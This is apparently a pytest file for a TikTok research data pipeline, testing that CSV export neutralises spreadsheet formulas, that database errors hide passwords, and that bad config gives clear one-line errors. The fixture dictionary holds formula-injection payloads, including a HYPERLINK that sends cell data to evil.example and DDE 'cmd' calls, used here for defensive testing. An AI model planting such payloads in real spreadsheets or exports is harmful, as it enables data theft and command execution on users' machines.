"""Hostile and careless input (issue 14): each probe is one bad input, and each ends as one
recorded line or a safe output, never a traceback or a lost result."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest
from support.workflow import run_snakemake

from tiktok_research.accounting.export import export_dataset
from tiktok_research.database import open_database
from tiktok_research.errors import DatabaseError
from tiktok_research.records import error_record

HOSTILE_CELLS = {
    "caption": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "transcript": "+cmd|' /C calc'!A0",
    "ocr_text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "-2+3+cmd|' /C calc'!A0",
    "author": "\tTAB=1+1",
    "hashtags": "\r=1+1",
}


def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path: Path) -> None:
    row = {"video_id": "101", "like_count": -3, "frame_count": 2, **HOSTILE_CELLS,
           "url": "https://www.tiktok.com/@a/video/101"}
    videos = [{"query_index": 0, "query": "=1+1 ramen",
               "videos": {"101": {"outcome": "published", "dataset_row": row}}}]
    parquet, csv_path = export_dataset(videos, tmp_path / "d.parquet", tmp_path / "d.csv")
    with csv_path.open(newline="", encoding="utf-8") as handle:
        [cells] = list(csv.DictReader(handle))
    for name, value in HOSTILE_CELLS.items():
        assert cells[name] == "'" + value, name
    assert cells["queries"] == "'=1+1 ramen"
    # Numbers and harmless text are as they were; the Parquet file keeps every value.
    assert (cells["like_count"], cells["frame_count"]) == ("-3", "2")
    assert cells["url"] == row["url"]
    frame = pd.read_parquet(parquet)
    assert {name: frame.iloc[0][name] for name in HOSTILE_CELLS} == HOSTILE_CELLS


@pytest.mark.parametrize("dsn", [
    "host=127.0.0.1 port=1 user=u password=open sesame please dbname=x",  # libpq refuses it
    "host=127.0.0.1 port=1 user=u password='open sesame please' dbname=x",
    "postgresql://u:open%20sesame%20please@127.0.0.1:1/x",
])
def test_no_form_of_database_url_leaks_its_password(dsn, monkeypatch) -> None:
    monkeypatch.setenv("DATABASE_URL", dsn)
    with pytest.raises(DatabaseError) as raised:
        open_database({"database": {"backend": "postgres"}})
    record = error_record(raised.value, {"video_id": "1"}, attempt=1, default_type="upload")
    for text in (str(raised.value), json.dumps(record)):
        assert "postgres:" in text
        for word in ("open", "sesame", "please"):
            assert word not in text, text


def big_field_list(workdir: Path) -> str:
    (workdir / "big.csv").write_text('query,topic\nramen,food\n"' + "a" * 200_000 + '",x\n',
                                     encoding="utf-8")
    return "big.csv"


@pytest.mark.parametrize(("setting", "expected"), [
    (lambda workdir: {"research_list": "folder"},
     "research list folder is a folder, not a CSV file"),
    (lambda workdir: {"research_list": big_field_list(workdir)},
     "research list big.csv, line 3: field larger than field limit (131072)"),
    (lambda workdir: {"output_dir": "out{put}"},
     "config key 'output_dir': 'out{put}' contains { or }, which Snakemake reads as a "
     "wildcard; choose a path without them"),
], ids=["list is a folder", "field over 128 KiB", "braces in output_dir"])
def test_bad_local_input_is_one_line(tmp_path: Path, setting, expected) -> None:
    (tmp_path / "folder").mkdir()
    result = run_snakemake(tmp_path, setting(tmp_path), "-n", timeout=120)
    assert result.returncode != 0
    assert expected in result.stderr.splitlines(), result.stderr[-2000:]
    assert "Traceback" not in result.stderr + result.stdout
